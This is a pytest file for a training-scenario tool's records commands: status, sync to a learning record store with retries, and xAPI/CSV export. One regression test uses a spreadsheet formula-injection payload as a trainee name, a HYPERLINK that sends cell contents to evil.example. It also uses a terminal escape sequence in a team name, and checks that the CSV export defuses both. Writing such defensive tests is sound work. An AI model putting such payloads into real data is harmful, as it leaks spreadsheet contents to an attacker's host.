"""`scenarios records status|sync|export` as a trainee or an administrator uses them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from scenarios.cli.main import main
from scenarios.store import Store
from scenarios.store.trainee import served_trainee
from scenarios.story.loader import load_file
from scenarios.story.model import Story
from tests.exports.test_csvfile import FORMULA_STARTS
from tests.exports.test_csvfile import cells as excel_cells
from tests.records.ralph import KEY, SECRET, Ralph, free_port
from tests.records.test_outbox import play_and_save
from tests.support import WriteStory


@pytest.fixture
def played(write: WriteStory, mini_text: str) -> Story:
    """One finished playthrough (4 statements) in the default store."""
    story = load_file(write(mini_text)).story
    assert story is not None
    store = Store()
    play_and_save(store, story, ["online"])
    store.close()
    return story


def test_status_says_what_waits_and_how_to_set_an_lrs(played: Story, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--lang", "en", "records", "status"]) == 0
    out = capsys.readouterr().out
    assert "4 statements waiting to be sent, 0 sent." in out
    assert "SCENARIOS_LRS_URL" in out
    assert main(["--lang", "fi", "records", "status"]) == 0
    assert "4 merkintää odottaa lähetystä" in capsys.readouterr().out


def test_sync_to_a_real_lrs_then_status_counts_them_sent(
    played: Story, running_ralph: Ralph, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SCENARIOS_LRS_URL", running_ralph.endpoint)
    monkeypatch.setenv("SCENARIOS_LRS_KEY", KEY)
    monkeypatch.setenv("SCENARIOS_LRS_SECRET", SECRET)
    assert main(["--lang", "en", "records", "sync"]) == 0
    assert "Sent 4 statements; 0 waiting." in capsys.readouterr().out
    assert main(["--lang", "en", "records", "status"]) == 0
    assert "0 statements waiting to be sent, 4 sent." in capsys.readouterr().out


def test_sync_to_an_unreachable_lrs_fails_clearly_and_keeps_them(
    played: Story, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SCENARIOS_LRS_URL", f"http://127.0.0.1:{free_port()}/xAPI/")
    waits: list[float] = []
    monkeypatch.setattr("scenarios.records.outbox.time.sleep", waits.append)  # no real waiting between retries
    assert main(["--lang", "en", "records", "sync"]) == 1
    err = capsys.readouterr().err
    assert "Sending stopped" in err and "4 waiting" in err and "Traceback" not in err
    assert waits == [1.0, 2.0, 4.0]  # three more tries, each after twice the wait


def test_sync_without_an_lrs_is_a_usage_error(played: Story, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--lang", "en", "records", "sync"]) == 2
    assert "SCENARIOS_LRS_URL" in capsys.readouterr().err


def test_export_xapi_writes_json_lines_and_csv_a_flat_table(
    played: Story, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "records.jsonl"
    assert main(["--lang", "en", "records", "export", "--format", "xapi", "-o", str(target)]) == 0
    lines = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    assert [s["verb"]["id"].rsplit("/", 1)[1] for s in lines] == ["initialized", "answered", "completed", "terminated"]
    assert "Wrote 4 statements" in capsys.readouterr().err
    assert main(["records", "export", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("\ufeffid;timestamp;registration;learner;team;verb;")  # the report's CSV: BOM, ';'
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff")), delimiter=";"))
    answered = rows[1]
    assert (answered["story"], answered["node"], answered["response"], answered["success"]) == (
        "mini",
        "start",
        "online",
        "false",
    )
    assert answered["ideal_option"] == "check" and rows[2]["outcome"] == "unresolved"
    assert len({r["registration"] for r in rows}) == 1 and rows[0]["registration"]  # one playthrough


def test_export_to_an_unwritable_place_says_so(played: Story, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--lang", "en", "records", "export", "-o", "/nonexistent/dir/x.jsonl"]) == 1
    assert (
        "There is no folder /nonexistent/dir, so /nonexistent/dir/x.jsonl cannot be written" in capsys.readouterr().err
    )


def test_records_export_csv_defuses_a_browser_trainees_name_and_team(
    write: WriteStory, mini_text: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Issue #29: a browser trainee named like this became a live formula in the trainer's Excel.
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    monkeypatch.setenv("SCENARIOS_TEAM", "+Kirjasto\x1b]0;x\x07")
    mini = load_file(write(mini_text)).story
    assert mini is not None
    store = Store(trainee=served_trainee(name))
    play_and_save(store, mini, ["online"])
    store.close()
    assert main(["records", "export", "--format", "csv"]) == 0
    rows = excel_cells(capsys.readouterr().out)
    header, body = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert header[:5] == ["id", "timestamp", "registration", "learner", "team"]
    assert {row["team"] for row in body} == {"'+Kirjasto\\x1b]0;x\\x07"}
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert len(body) == 4
